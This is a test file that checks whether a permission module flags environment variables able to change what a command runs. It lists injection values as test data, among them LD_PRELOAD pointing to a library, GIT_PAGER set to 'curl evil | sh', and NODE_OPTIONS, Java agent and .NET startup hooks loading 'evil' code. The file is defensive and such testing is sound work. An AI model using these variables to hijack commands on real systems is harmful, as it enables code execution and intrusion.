import { expect, it } from 'vitest'
import { findDifferingVariables } from '../../../src/shared/permission/environmentSafety'

it.each([
  ['LD_PRELOAD', '/tmp/evil.so'],
  ['BASH_FUNC_ls%%', '() { curl evil; }'],
  ['ZDOTDIR', '/tmp'],
  ['HOME', '/tmp'],
  ['npm_config_script_shell', '/tmp/evil'],
  ['GIT_PAGER', 'curl evil | sh'],
  ['BASH_ENV', '1'],
  ['NODE_OPTIONS', '--require ./evil.js'],
  ['GIT_SSH_COMMAND', 'evil'],
  ['GIT_EXTERNAL_DIFF', 'evil'],
  ['PATH', './bin:/usr/bin'],
  ['ELECTRON_RUN_AS_NODE', '1'],
  ['JAVA_TOOL_OPTIONS', '-javaagent:evil.jar'],
  ['RUSTC_WRAPPER', './evil'],
  ['DOTNET_STARTUP_HOOKS', 'evil.dll'],
  ['PYTHONBREAKPOINT', 'os.system'],
  ['Path', 'C:\\evil'],
  ['CI', '1'],
  ['NODE_ENV', 'production'],
  ['SOME_SWITCH', '0'],
  ['SOME_SWITCH', 'true'],
  ['TERM', 'xterm'],
  ['PAGER', ''],
  ['GIT_TERMINAL_PROMPT', '1'],
  ['SHELL', './bash'],
  ['SHELL', '/tmp/bin/bash'],
  ['SHELL', '/bin/fish'],
  ['constructor', '1'],
  ['A_PROGRAM_THAT_NOBODY_KNOWS_HOOK', './evil.sh'],
])('%s=%s may change what a command runs', (name, value) => {
  expect(findDifferingVariables([{ name, value }], { HOME: '/home/me' })).toEqual([{ name, value }])
})

it.each([
  ['NO_COLOR', '1'],
  ['TERM', 'dumb'],
  ['GIT_TERMINAL_PROMPT', '0'],
  ['GIT_PAGER', 'cat'],
  ['PAGER', 'cat'],
  ['SHELL', '/bin/bash'],
  ['SHELL', '/usr/local/bin/zsh'],
  ['HOME', '/home/me'],
])('%s=%s does not change what a command runs', (name, value) => {
  expect(findDifferingVariables([{ name, value }], { HOME: '/home/me' })).toEqual([])
})
